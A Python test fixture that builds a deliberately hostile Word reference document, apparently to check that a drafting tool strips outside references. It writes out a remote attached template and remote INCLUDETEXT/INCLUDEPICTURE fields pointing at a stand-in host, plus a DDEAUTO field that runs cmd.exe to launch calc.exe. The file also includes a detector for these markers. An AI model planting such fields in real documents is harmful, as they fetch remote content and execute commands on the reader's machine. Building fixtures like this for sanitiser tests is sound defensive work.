"""A reference.docx that reaches outside itself, built in code from python-docx's default
document: an attached template, a linked header picture, a hyperlink, INCLUDEPICTURE,
INCLUDETEXT and DDEAUTO fields, a mail merge with an external data source."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import docx

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "http://evil.example"

_HEADER_RELS = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rIdPic" Type="{RT}/image" Target="{EVIL}/logo.png" TargetMode="External"/>
<Relationship Id="rIdLink" Type="{RT}/hyperlink" Target="{EVIL}/page" TargetMode="External"/>
</Relationships>"""

_PICTURE = f"""<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="914400" cy="914400"/><wp:docPr id="7" name="徽标"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="7" name="徽标"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip xmlns:r="{RT}" r:link="rIdPic"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"""

_FIELDS = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
           f'<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "{EVIL}/x.png" \\d </w:instrText></w:r>'
           '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>旧徽标</w:t></w:r>'
           '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
           '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
           '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe'
           ' "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
           f'<w:fldSimple w:instr=" INCLUDETEXT &quot;{EVIL}/t.docx&quot; "><w:r><w:t>引入的文字</w:t>'
           "</w:r></w:fldSimple>"
           '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
           '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
           '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
           '<w:r><w:fldChar w:fldCharType="end"/></w:r>')

_HYPERLINK = ('<w:hyperlink xmlns:r="' + RT + '" r:id="rIdLink"><w:r><w:t>本局网站</w:t></w:r>'
              "</w:hyperlink>")


def hostile_reference(out: Path) -> Path:
    """A reference.docx with every kind of outside reference drafter strips."""
    d = docx.Document()
    d.sections[0].header.paragraphs[0].text = "某某市司法局文件"
    plain = out.with_suffix(".plain.docx")
    d.save(plain)
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "word/header1.xml":
                text = data.decode("utf-8")
                text = text.replace("<w:r><w:t>某某市司法局文件</w:t></w:r>",
                                    "<w:r><w:t>某某市司法局文件</w:t></w:r>" + _FIELDS + _HYPERLINK
                                    + _PICTURE)
                data = text.encode("utf-8")
            elif item.filename == "word/settings.xml":
                text = data.decode("utf-8")
                text = re.sub(r"(<w:zoom [^>]*/>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>'
                              r'<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
                              r'<w:dataType w:val="odbc"/><w:query w:val="SELECT * FROM x"/>'
                              r'<w:dataSource r:id="rIdSrc"/></w:mailMerge>', text, count=1)
                data = text.encode("utf-8")
            dst.writestr(item, data)
        dst.writestr("word/_rels/header1.xml.rels", _HEADER_RELS)
        dst.writestr("word/_rels/settings.xml.rels", f"""<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rIdTpl" Type="{RT}/attachedTemplate" Target="{EVIL}/t.dotm" TargetMode="External"/>
<Relationship Id="rIdSrc" Type="{RT}/mailMergeSource" Target="file:///C:/data.odc" TargetMode="External"/>
</Relationships>""")
    plain.unlink()
    return out


def reaching_outside(docx_path: Path) -> list[str]:
    """What in a .docx still reaches outside: external relationships, the fields, merges."""
    found = []
    with zipfile.ZipFile(docx_path) as zf:
        for name in zf.namelist():
            if not name.endswith((".xml", ".rels")):
                continue
            text = zf.read(name).decode("utf-8", "replace")
            if 'TargetMode="External"' in text:
                found.append(f"{name}: external")
            for word in ("INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO", "mailMerge",
                         "attachedTemplate", "evil.example"):
                if word in text:
                    found.append(f"{name}: {word}")
    return found
